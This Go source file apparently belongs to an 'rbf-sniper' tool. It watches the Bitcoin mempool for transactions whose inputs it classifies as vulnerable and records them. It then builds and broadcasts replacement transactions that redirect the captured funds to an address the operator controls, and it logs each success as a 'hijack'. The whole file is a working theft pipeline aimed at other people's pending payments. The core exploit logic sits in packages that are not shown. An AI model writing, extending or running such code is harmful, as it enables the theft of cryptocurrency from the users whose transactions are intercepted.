// Package capture runs the per-transaction capture pipeline: classify,
// evaluate, replace and record.
package capture

import (
	"context"
	"errors"
	"fmt"
	"time"

	"github.com/btcsuite/btcd/chaincfg"
	"github.com/goodnatureofminers/rbf-sniper/internal/mempool/bitcoin"
	"github.com/goodnatureofminers/rbf-sniper/internal/mempool/model"
	"github.com/goodnatureofminers/rbf-sniper/pkg/safe"
	"go.uber.org/zap"
)

// Config identifies the chain the service captures on.
type Config struct {
	Coin    model.Coin
	Network model.Network
}

// Service handles feed transactions one at a time.
type Service struct {
	coin       model.Coin
	network    model.Network
	params     *chaincfg.Params
	classifier *bitcoin.Classifier
	evaluator  *Evaluator
	gateway    Gateway
	ledger     Ledger
	sink       ObservationSink
	metrics    Metrics
	logger     *zap.Logger
	now        func() time.Time
}

// NewService wires the pipeline. A nil sink discards observations.
func NewService(
	cfg Config,
	gateway Gateway,
	resolver PrevoutResolver,
	ledger Ledger,
	sink ObservationSink,
	metrics Metrics,
	logger *zap.Logger,
) (*Service, error) {
	params, err := bitcoin.ChainParams(cfg.Network)
	if err != nil {
		return nil, err
	}
	if sink == nil {
		sink = discardObservations{}
	}
	return &Service{
		coin:       cfg.Coin,
		network:    cfg.Network,
		params:     params,
		classifier: bitcoin.NewClassifier(logger),
		evaluator:  NewEvaluator(resolver, gateway),
		gateway:    gateway,
		ledger:     ledger,
		sink:       sink,
		metrics:    metrics,
		logger:     logger,
		now:        time.Now,
	}, nil
}

// Run feeds every received transaction through Handle until ctx is done.
func (s *Service) Run(ctx context.Context, feed Feed) error {
	s.logger.Info("capture pipeline started",
		zap.String("coin", string(s.coin)),
		zap.String("network", string(s.network)))

	err := feed.Run(ctx, func(ctx context.Context, raw []byte) {
		s.Handle(ctx, raw)
	})
	if err != nil {
		return fmt.Errorf("feed: %w", err)
	}
	return nil
}

// Handle runs the pipeline for one raw transaction and returns its outcome.
// Errors end the attempt for this transaction only.
func (s *Service) Handle(ctx context.Context, raw []byte) model.Outcome {
	started := time.Now()
	obs := model.Observation{
		Coin:       s.coin,
		Network:    s.network,
		ObservedAt: s.now().UTC(),
	}

	outcome := s.handle(ctx, raw, &obs)

	obs.Outcome = outcome
	s.sink.Emit(obs)
	s.metrics.ObserveHandle(outcome, started)
	return outcome
}

func (s *Service) handle(ctx context.Context, raw []byte, obs *model.Observation) model.Outcome {
	tx, err := bitcoin.DecodeTransaction(raw)
	if err != nil {
		s.logger.Warn("drop undecodable transaction", zap.Int("bytes", len(raw)), zap.Error(err))
		return model.OutcomeDecodeFailed
	}
	s.describe(tx, obs)
	log := s.logger.With(zap.String("txid", tx.TxID()))

	eligible := s.classifier.Classify(tx)
	obs.EligibleInputCount = count(len(eligible))
	if len(eligible) == 0 {
		return model.OutcomeNoEligibleInputs
	}

	if addr, ok := bitcoin.FirstOutputAddress(tx, s.params); ok {
		mine, err := s.gateway.IsMine(addr)
		if err != nil {
			log.Warn("ownership check failed", zap.Error(err))
			return model.OutcomeLookupFailed
		}
		if mine {
			log.Debug("skip own transaction")
			return model.OutcomeOwnTransaction
		}
	}
	s.metrics.ObserveEligible(len(eligible))

	values, captured, err := s.evaluator.Resolve(ctx, eligible)
	if err != nil {
		log.Warn("prevout lookup failed", zap.Error(err))
		return model.OutcomeLookupFailed
	}

	for i, in := range eligible {
		_, err := s.ledger.InsertVulnerableInput(ctx, model.VulnerableInput{
			PrevOut:            in.PrevOut(),
			Value:              values[i],
			FirstSeenSpendTxID: tx.TxID(),
		})
		if err != nil {
			log.Error("vulnerable input not recorded", zap.Stringer("prevout", in.PrevOut()), zap.Error(err))
			return model.OutcomeLedgerFailed
		}
	}
	log.Info("vulnerable inputs found",
		zap.Int("eligible", len(eligible)),
		zap.Int64("captured_sat", int64(captured)))

	entry, err := s.evaluator.MempoolState(ctx, tx.TxID())
	if errors.Is(err, model.ErrNoLongerPending) {
		log.Debug("transaction left the mempool")
		return model.OutcomeNotPending
	}
	if err != nil {
		log.Warn("mempool entry lookup failed", zap.Error(err))
		return model.OutcomeLookupFailed
	}

	_, err = s.ledger.InsertVulnerableTransaction(ctx, model.VulnerableTransaction{
		TxID:  tx.TxID(),
		Value: tx.OutputValue(),
		VSize: entry.VSize,
		Fees:  entry.BaseFee,
	})
	if err != nil {
		log.Error("vulnerable transaction not recorded", zap.Error(err))
		return model.OutcomeLedgerFailed
	}

	eval, err := s.evaluator.Evaluate(ctx, entry, captured)
	if err != nil {
		log.Warn("evaluation failed", zap.Error(err))
		return model.OutcomeLookupFailed
	}
	if !eval.Viable {
		log.Info("capture not viable",
			zap.Int64("captured_sat", int64(eval.CapturedValue)),
			zap.Int64("total_fee_sat", int64(eval.TotalFee)))
		return model.OutcomeNotViable
	}

	destination, err := s.gateway.GetNewAddress()
	if err != nil {
		log.Error("destination address not allocated", zap.Error(err))
		return model.OutcomeBuildFailed
	}
	replacement, err := bitcoin.BuildReplacement(tx, eligible, eval.CapturedValue, eval.TotalFee, destination)
	if err != nil {
		log.Error("replacement not built", zap.Error(err))
		return model.OutcomeBuildFailed
	}

	hijackID, err := s.gateway.SendRawTransaction(replacement)
	if err != nil {
		log.Warn("replacement rejected", zap.Error(err))
		return model.OutcomeBroadcastRejected
	}
	obs.CapturedValue = replacement.OutputValue()
	obs.ReplacementTxID = hijackID
	s.metrics.ObserveCaptured(replacement.OutputValue())
	log.Info("replacement broadcast",
		zap.String("replacement_txid", hijackID),
		zap.Int64("payout_sat", int64(replacement.OutputValue())),
		zap.Int64("fee_sat", int64(eval.TotalFee)))

	inputs := replacement.Inputs()
	prevOuts := make([]model.OutPoint, 0, len(inputs))
	for _, in := range inputs {
		prevOuts = append(prevOuts, in.PrevOut())
	}
	_, spends, err := s.ledger.RecordHijack(ctx, model.HijackTransaction{
		TxID:  hijackID,
		Value: replacement.OutputValue(),
		VSize: replacement.VSize(),
		Fee:   eval.TotalFee,
	}, prevOuts)
	if err != nil {
		log.Error("broadcast hijack not recorded",
			zap.String("replacement_txid", hijackID),
			zap.Bool("association_missing", errors.Is(err, model.ErrAssociationNotFound)),
			zap.Error(err))
		return model.OutcomeRecordingFailed
	}
	log.Debug("hijack recorded", zap.Int("input_spends", len(spends)))
	return model.OutcomeHijacked
}

func (s *Service) describe(tx model.Transaction, obs *model.Observation) {
	obs.TxID = tx.TxID()
	obs.InputCount = count(len(tx.Inputs()))
	obs.OutputCount = count(len(tx.Outputs()))
	obs.OutputValue = tx.OutputValue()
	obs.VSize = count(tx.VSize())
}

// count converts a size for the observation columns; out of range yields 0.
func count[T safe.Integer](v T) uint32 {
	n, err := safe.Uint32(v)
	if err != nil {
		return 0
	}
	return n
}
